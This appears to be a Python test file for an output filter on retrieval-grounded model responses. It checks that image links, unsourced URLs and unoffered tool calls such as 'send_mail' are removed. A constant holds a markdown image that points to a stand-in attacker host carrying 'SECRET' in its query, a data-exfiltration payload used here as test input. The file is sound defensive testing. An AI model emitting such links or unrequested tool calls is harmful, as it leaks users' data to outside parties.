"""What leaves of a call that answers from documents; other calls leave as they came."""

import json
from typing import Any

from inference.grounded_output import GroundedOutput
from inference.outbound import Allowed
from inference.providers.base import Chunk, Completion, Usage
from inference.transcript import DONE, Transcript
from knowledge.retrieval import Passage
from tenants.ids import uuid7

PASSAGE = Passage(uuid7(), "why.pdf", uuid7(), uuid7(), "See https://acme.example/why.", 0.5, 2, 10, 18, {})
USAGE = Usage(7, 3)
EVIL = "![x](https://evil.example/?d=SECRET)"


def transcript(*, grounded: bool = True, tools: tuple[str, ...] = ()) -> Transcript:
    outgoing = GroundedOutput(allowed=Allowed.within([PASSAGE.text]), tools=frozenset(tools)) if grounded else None
    return Transcript(id="c", created=5, model="m", passages=[PASSAGE], include_usage=False, outgoing=outgoing)


def streamed(said: Transcript, *parts: dict[str, Any], finish: str | None = "stop") -> list[dict[str, Any]]:
    """The choices of the events that the client gets, one for each event."""
    chunk = [[{"index": 0, "delta": part, "finish_reason": None}] for part in parts]
    if finish:
        chunk.append([{"index": 0, "delta": {}, "finish_reason": finish}])
    data = said.take(Chunk(chunk, USAGE)) + said.closing(USAGE)
    return [
        json.loads(line.removeprefix(b"data: "))["choices"][0]
        for line in data.split(b"\n\n")
        if line and line != DONE.strip()
    ]


def text_of(choices: list[dict[str, Any]], member: str = "content") -> str:
    return "".join(choice["delta"].get(member) or "" for choice in choices)


def test_a_stream_loses_its_image_and_keeps_the_rest() -> None:
    said = transcript()
    choices = streamed(said, *({"content": piece} for piece in f"So [1]. {EVIL} See https://acme.example/why"))
    assert text_of(choices) == "So [1]. x See https://acme.example/why"
    assert choices[-1]["finish_reason"] == "stop"
    [whole] = said.completion(USAGE)["choices"]
    assert whole["message"]["content"] == text_of(choices)
    [citation] = whole["message"]["annotations"]
    assert citation == choices[-1]["delta"]["annotations"][0] and citation["index"] == 3


def test_what_is_held_back_comes_even_where_the_provider_forgets_to_finish() -> None:
    choices = streamed(transcript(), {"content": "So it is [1]."}, finish=None)
    assert text_of(choices) == "So it is [1]."
    assert choices[-1]["finish_reason"] == "stop"


def test_nothing_is_sent_for_a_part_that_is_held_back() -> None:
    choices = streamed(
        transcript(), {"role": "assistant", "content": ""}, {"content": "See https"}, {"content": "://x"}
    )
    assert [choice["delta"] for choice in choices] == [
        {"role": "assistant", "content": ""},
        {"content": "See "},
        {"content": "[link removed]"},
    ]


def test_every_text_is_looked_at_and_no_member_that_nobody_knows_passes() -> None:
    texts = {"content": EVIL, "refusal": EVIL, "reasoning_content": EVIL, "reasoning": EVIL}
    unknown = {"images": [EVIL], "audio": {"id": EVIL}, "annotations": [EVIL], "function_call": {"name": EVIL}}
    said = transcript()
    assert "SECRET" not in str(streamed(said, {**texts, **unknown})) + str(said.completion(USAGE))
    said = transcript()
    said.take_whole(Completion([{"index": 0, "message": {**texts, **unknown}, "logprobs": {"content": [EVIL]}}], USAGE))
    [whole] = said.completion(USAGE)["choices"]
    assert "SECRET" not in str(whole) and whole["message"]["content"] == "x" and whole["logprobs"] is None


def test_text_in_parts_is_joined() -> None:
    said = transcript()
    parts = [{"type": "text", "text": f"So. {EVIL}"}, {"type": "image_url", "image_url": {"url": "https://x/SECRET"}}]
    said.take_whole(Completion([{"message": {"content": parts}}], USAGE))
    assert said.completion(USAGE)["choices"][0]["message"]["content"] == "So. x"


def call(name: str, arguments: str, index: int = 0) -> dict[str, Any]:
    return {"index": index, "id": f"c{index}", "type": "function", "function": {"name": name, "arguments": arguments}}


def test_only_tools_that_the_request_offered_are_called() -> None:
    said = transcript(tools=("look_up",))
    choices = streamed(
        said,
        {"tool_calls": [call("send_mail", '{"to"')]},
        {"tool_calls": [call("look_up", "{", 1)]},
        {"tool_calls": [{"index": 0, "function": {"arguments": ': "evil"}'}}]},
        {"tool_calls": [{"index": 1, "function": {"arguments": "}"}}]},
        finish="tool_calls",
    )
    assert "send_mail" not in str(choices) and "evil" not in str(choices)
    [whole] = said.completion(USAGE)["choices"]
    assert [made["function"] for made in whole["message"]["tool_calls"]] == [{"name": "look_up", "arguments": "{}"}]
    assert whole["finish_reason"] == choices[-1]["finish_reason"] == "tool_calls"


def test_an_answer_whose_only_call_was_not_offered_has_simply_ended() -> None:
    said = transcript()
    choices = streamed(said, {"tool_calls": [call("send_mail", "{}")]}, finish="tool_calls")
    assert [choice["delta"] for choice in choices] == [{"role": "assistant"}, {}]
    assert choices[-1]["finish_reason"] == "stop"
    said = transcript()
    message = {"content": None, "tool_calls": [call("send_mail", "{}")]}
    said.take_whole(Completion([{"message": message, "finish_reason": "tool_calls"}], USAGE))
    [whole] = said.completion(USAGE)["choices"]
    assert whole["finish_reason"] == "stop" and "tool_calls" not in whole["message"]
    assert whole["message"]["content"] is None


def test_what_was_produced_is_counted_not_what_went_out() -> None:
    said = transcript()
    streamed(said, {"content": EVIL})
    assert said.text() == EVIL
    said = transcript()
    said.take_whole(Completion([{"message": {"role": "assistant", "content": EVIL}}], None))
    assert said.text() == EVIL


def test_a_call_without_documents_leaves_byte_for_byte() -> None:
    said = transcript(grounded=False)
    delta = {"content": f"{EVIL} <script>", "images": ["https://x"], "tool_calls": [call("any", "{}")]}
    [first, *_] = streamed(said, delta)
    assert first["delta"] == {"role": "assistant", **delta}
    said = transcript(grounded=False)
    said.take_whole(Completion([{"message": delta, "logprobs": {"content": []}}], USAGE))
    assert said.completion(USAGE)["choices"][0]["message"] == {"role": "assistant", "refusal": None, **delta}
